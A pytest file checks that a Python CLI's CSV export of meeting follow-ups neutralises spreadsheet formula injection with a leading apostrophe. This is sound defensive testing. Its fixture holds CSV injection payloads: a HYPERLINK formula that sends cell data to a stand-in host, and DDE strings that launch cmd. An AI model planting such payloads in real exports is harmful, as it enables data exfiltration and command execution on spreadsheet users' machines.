"""`python -m lib export` as a spreadsheet user opens its file: follow-ups whose text would run as a formula are
written with a leading apostrophe (as the dashboard's downloads); `--raw` writes them as stored, for programs."""

from __future__ import annotations

import csv
import datetime as dt

import pandas as pd
import pytest

from lib import cli, store
from tests.principals import admin

FORMULAS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]


@pytest.fixture
def follow_ups(db):
    rows = pd.DataFrame(
        {
            "rapat": "Rakor I",
            "tanggal_rapat": dt.date(2025, 6, 12),
            "kode_wilayah": "74.71",
            "uraian": FORMULAS,
            "penanggung_jawab": ["=1+1", "Operator", "Operator", "Operator"],
            "tenggat": dt.date(2025, 6, 30),
            "status": "Belum",
            "catatan": ["Kirim data", "", "@catatan", "\t=1"],
        }
    )
    store.save_batch("tindak_lanjut", rows, admin("uji"))
    return db


def _export(tmp_path, *extra: str) -> list[dict]:
    out = tmp_path / "tl.csv"
    assert cli.main(["export", "tindak_lanjut", "--out", str(out), *extra]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_export_writes_formula_text_with_a_leading_apostrophe(follow_ups, tmp_path):
    rows = _export(tmp_path)
    assert sorted(r["uraian"] for r in rows) == sorted("'" + x for x in FORMULAS)
    by_text = {r["uraian"]: r for r in rows}
    assert by_text["'" + FORMULAS[0]]["penanggung_jawab"] == "'=1+1"
    assert sorted(r["catatan"] for r in rows) == sorted(["Kirim data", "", "'@catatan", "'\t=1"])
    assert {r["kode_wilayah"] for r in rows} == {"74.71"}  # other text untouched


def test_export_raw_writes_the_text_as_stored(follow_ups, tmp_path):
    rows = _export(tmp_path, "--raw")
    assert sorted(r["uraian"] for r in rows) == sorted(FORMULAS)


def test_export_to_stdout_is_neutralised_too(follow_ups, capsys):
    assert cli.main(["export", "tindak_lanjut"]) == 0
    out = capsys.readouterr().out
    assert "'+cmd|' /C calc'!A0" in out and "\n+cmd" not in out and ",+cmd" not in out


def test_help_tells_of_raw_in_both_languages(capsys):
    for lang, words in (("id", "tanpa tanda petik"), ("en", "no apostrophe")):
        with pytest.raises(SystemExit):
            cli.main(["--lang", lang, "export", "--help"])
        assert words in " ".join(capsys.readouterr().out.split())  # argparse wraps the help
